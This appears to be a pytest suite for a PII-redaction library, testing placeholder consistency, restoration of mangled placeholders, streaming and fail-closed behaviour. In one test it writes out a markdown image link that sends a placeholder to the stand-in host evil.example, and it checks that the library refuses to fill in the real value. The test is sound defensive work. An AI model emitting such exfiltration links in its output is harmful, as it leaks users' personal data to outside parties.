"""One test per fault that users of comparable tools reported, end to end with the shipped parts.

The name behind `report` is that of the fault. Faults on the wire of an SDK stand in `test_field_cases.py`, those of
detection in `tests/detect`.
"""

import json
import logging
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

import privguard
from privguard import Channel, Exchange, Guard
from privguard.core.audit import Cause, Event, Outcome
from privguard.core.entities import EntityType
from privguard.testing import FailingDetector, FakeDetector, ListSink

KEY = "correct horse battery staple"
PLACEHOLDER = re.compile(r"\[[A-Z_]+_[A-Z2-9]{4,}\]")
STRICT = {"profiles": {"default": {"gamma": 0.0}}}  # everything that is found is redacted


@pytest.fixture(scope="module")
def guard() -> Guard:
    return privguard.load_guard(profiles=STRICT, key=KEY, audit=ListSink())


@pytest.fixture(scope="module")
def ada(guard: Guard) -> tuple[Exchange[str], str]:
    """An open exchange that carries Ada Roth, and her placeholder."""
    exchange = privguard.minimize("My name is Ada Roth. What is my name?", target="m", guard=guard)
    return exchange, placeholders(exchange.outgoing)[0]


def placeholders(text: str) -> list[str]:
    return PLACEHOLDER.findall(text)


def minimized(guard: Guard, text: str) -> str:
    with privguard.minimize(text, target="m", guard=guard) as exchange:
        return exchange.outgoing


def test_report_identity_restart(guard: Guard) -> None:
    messages = [{"role": "user", "content": "I am Ada Roth."}, {"role": "user", "content": "I am Ben Kole."}]
    with privguard.minimize(messages, target="m", guard=guard) as exchange:
        (first,), (second,) = (placeholders(str(message["content"])) for message in exchange.outgoing)
        assert first != second
        assert exchange.restore(f"{second}, {first}") == "Ben Kole, Ada Roth"


def test_report_identity_repeat(guard: Guard) -> None:
    outgoing = minimized(guard, "ref 7-AB-99201, again ref 7-AB-99201")
    assert "99201" not in outgoing
    assert len(set(placeholders(outgoing))) == 1


def test_report_identity_turns(guard: Guard) -> None:
    (old,) = placeholders(minimized(guard, "I am Ada Roth."))
    messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "I am Ada Roth."}]
    with privguard.minimize(messages, target="m", guard=guard) as exchange:
        assert exchange.restore(f"Hello {old}") == "Hello Ada Roth"


def test_report_identity_masked_ids(guard: Guard) -> None:
    text = "Ada Roth, ada@roth.example, card 4111 1111 1111 1111, IBAN DE89 3704 0044 0532 0130 00, 14 March 1987"
    once = minimized(guard, text)
    assert len(placeholders(once)) >= 5
    assert minimized(guard, once) == once


def test_report_identity_collapse(guard: Guard) -> None:
    first, ben, last = placeholders(minimized(guard, "Ada Roth told Ben Kole that Ada Roth left"))
    assert first == last != ben


def test_report_identity_shared_fixed(guard: Guard) -> None:
    text = "write to ada@roth.example and ben@kole.example"
    with privguard.minimize(text, target="m", guard=guard) as exchange:
        assert len(set(placeholders(exchange.outgoing))) == 2
        assert exchange.restore(exchange.outgoing) == text


MANGLED: dict[str, tuple[Callable[[str], str], str]] = {
    "mangle-offset": (lambda p: f"Your name is {p}.", "Your name is Ada Roth."),
    "mangle-space": (lambda p: f"Dear [{p[1:-1].replace('_', ' _ ')} ],", "Dear Ada Roth,"),
    "mangle-html": (lambda p: f"Dear &#91;{p[1:-1]}&#93;,", "Dear Ada Roth,"),
    "mangle-case": (lambda p: f"dear {p[1:-1].lower()}", "dear Ada Roth"),
    "mangle-md": (lambda p: rf"\* Dear \[{p[1:-1]}\] \*".replace("_", r"\_"), r"\* Dear Ada Roth \*"),
    "mangle-truncated": (lambda _: "Dear [PERS", "Dear [PERS"),
}


@pytest.mark.parametrize("report", MANGLED)
def test_report_mangled(report: str, ada: tuple[Exchange[str], str]) -> None:
    exchange, placeholder = ada
    write, right = MANGLED[report]
    assert exchange.restore(write(placeholder)) == right


def test_report_mangle_nobracket_json(ada: tuple[Exchange[str], str]) -> None:
    exchange, placeholder = ada
    restored = exchange.restore(json.dumps({"to": placeholder[1:-1]}), Channel.JSON)
    assert json.loads(restored) == {"to": "Ada Roth"}


def test_report_mangle_prefix(ada: tuple[Exchange[str], str]) -> None:
    exchange, placeholder = ada
    longer = f"{placeholder[:-1]}2]"
    assert exchange.restore(f"{longer} {longer[1:-1]}") == f"{longer} {longer[1:-1]}"


def test_report_mangle_rescan() -> None:
    def guard_of(values: dict[str, EntityType]) -> Guard:
        return privguard.load_guard(detector=FakeDetector(values), profiles=STRICT, key=KEY, audit="off")

    names = {"Ada Roth": EntityType.PERSON}
    (live,) = placeholders(minimized(guard_of(names), "Ada Roth"))
    inner = live.strip("[]")
    guard = guard_of({**names, f"code {inner}": EntityType.MISC})
    text = f"Ada Roth has code {inner}"
    with privguard.minimize(text, target="m", guard=guard) as exchange:
        assert exchange.restore(exchange.outgoing) == text


def test_report_inject_literal(guard: Guard, ada: tuple[Exchange[str], str]) -> None:
    _, live = ada
    with privguard.minimize(f"I am Ada Roth. What does {live} mean?", target="m", guard=guard) as exchange:
        assert exchange.restore(f"{live} is yours to define") == f"{live} is yours to define"


def test_report_exfil_url(guard: Guard) -> None:
    with privguard.minimize("I am Ada Roth.", target="m", guard=guard) as exchange:
        (live,) = placeholders(exchange.outgoing)
        link = f"![x](https://evil.example/?q={live})"
        assert exchange.restore(link, path="choices[0].message.content") == link
        record = exchange.close()
    assert [(event.event, event.cause) for event in record.events] == [(Event.REFUSED, Cause.URL)]


def test_report_stream_split(ada: tuple[Exchange[str], str]) -> None:
    exchange, placeholder = ada
    text = f"Dear {placeholder} - {placeholder}."
    for first in range(len(text)):
        for second in range(first, len(text)):
            stream = exchange.stream()
            parts = (text[:first], text[first:second], text[second:])
            assert "".join([*map(stream.feed, parts), stream.flush()]) == "Dear Ada Roth - Ada Roth."


def test_report_stream_buffer(ada: tuple[Exchange[str], str]) -> None:
    exchange, placeholder = ada
    stream = exchange.stream()
    for word in ["some ", "words, ", "and ", "more. "] * 125:
        assert stream.feed(word) == word
    assert stream.feed(placeholder) + stream.flush() == "Ada Roth"


def test_report_stream_long(ada: tuple[Exchange[str], str]) -> None:
    exchange, placeholder = ada
    stream = exchange.stream()
    passed = sum(len(stream.feed("words of 20 letters ")) for _ in range(100_000))
    assert passed == 2_000_000
    assert stream.feed(placeholder) + stream.flush() == "Ada Roth"


def test_report_json_quote() -> None:
    values = {'Bob "Ace" Lee': EntityType.PERSON, "1 Elm Street\n8001 Zurich": EntityType.ADDRESS}
    guard = privguard.load_guard(detector=FakeDetector(values), profiles=STRICT, key=KEY, audit="off")
    with privguard.minimize("\n\n".join(values), target="m", guard=guard) as exchange:
        name, address = placeholders(exchange.outgoing)
        reply = json.dumps({"to": name, "nested": json.dumps({"at": address})})
        restored = json.loads(exchange.restore(reply, Channel.JSON))
    assert restored["to"] == 'Bob "Ace" Lee'
    assert json.loads(restored["nested"]) == {"at": "1 Elm Street\n8001 Zurich"}


def test_report_ops_failopen() -> None:
    sink = ListSink()
    guard = privguard.load_guard(detector=FailingDetector(), profiles={}, key=KEY, audit=sink)
    with pytest.raises(privguard.ProtectionError):
        privguard.minimize("I am Ada Roth", target="m", guard=guard)
    assert [record.outcome for record in sink.records] == [Outcome.BLOCKED]


def test_report_ops_raw_logs(guard: Guard, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG), privguard.minimize("I am Ada Roth", target="m", guard=guard) as exchange:
        exchange.restore(exchange.outgoing)
        shown = f"{exchange!r} {exchange.plan!r} {exchange.close()!r} {guard!r} {guard.parts!r} {caplog.text}"
    assert "Ada" not in shown
    assert "Roth" not in shown


def test_report_ops_hash() -> None:
    def outgoing(key: str) -> str:
        guard = privguard.load_guard(
            detector=FakeDetector({"Ada": EntityType.PERSON}), profiles={}, key=key, audit="off"
        )
        return minimized(guard, "Ada")

    assert outgoing(KEY) == outgoing(KEY) != outgoing("another key of enough length")


MEMORY = """
import gc, resource
import privguard
from privguard.detect.remembering import RememberingDetector
from privguard.testing import FakeDetector
detector = RememberingDetector(FakeDetector({f"user{n}@roth.example": privguard.EntityType.EMAIL for n in range(50)}))
guard = privguard.load_guard(detector=detector, profiles={}, audit="off")
def ask(n):
    text = f"mail number {n} to user{n % 50}@roth.example, once more {n}"
    with privguard.minimize(text, target="m", guard=guard) as x:
        x.restore(x.outgoing)
def resident():
    gc.collect()
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * resource.getpagesize()
for n in range(9_000):
    ask(n)
warm = resident()
for n in range(9_000, 13_000):
    ask(n)
print(resident() - warm)
"""


@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="resident memory is read from /proc")
@pytest.mark.long
def test_report_ops_memory() -> None:
    done = subprocess.run([sys.executable, "-c", MEMORY], check=True, capture_output=True, text=True)
    assert int(done.stdout) < 16 * 2**20


@pytest.mark.parametrize(
    "text",
    [
        repr({"log": "paid\n4111111111111111\tcall +12025550143\nada.roth@mail.example"}),
        r"stdout: 'card\n4111111111111111\nmail\tada.roth@mail.example'",
    ],
)
def test_written_line_breaks_hide_no_value(guard: Guard, text: str) -> None:
    with privguard.minimize(text, target="m", guard=guard) as exchange:
        assert not re.search(r"4111|2025550143|roth", exchange.outgoing)
        assert r"\n[" in exchange.outgoing or r"\t[" in exchange.outgoing
        assert exchange.restore(exchange.outgoing) == text


@pytest.mark.parametrize(
    "text",
    [
        "const token = await getToken(); const a = await load();",
        "class User(BaseModel):\n    username: str\n    age: int",
        "password = req.body.password\nsecret = crypto.randomBytes(32)",
        '{"ts": 1709294400000, "took": 1714564800123}',
    ],
)
def test_code_and_logs_leave_as_they_are(guard: Guard, text: str) -> None:
    assert minimized(guard, text) == text
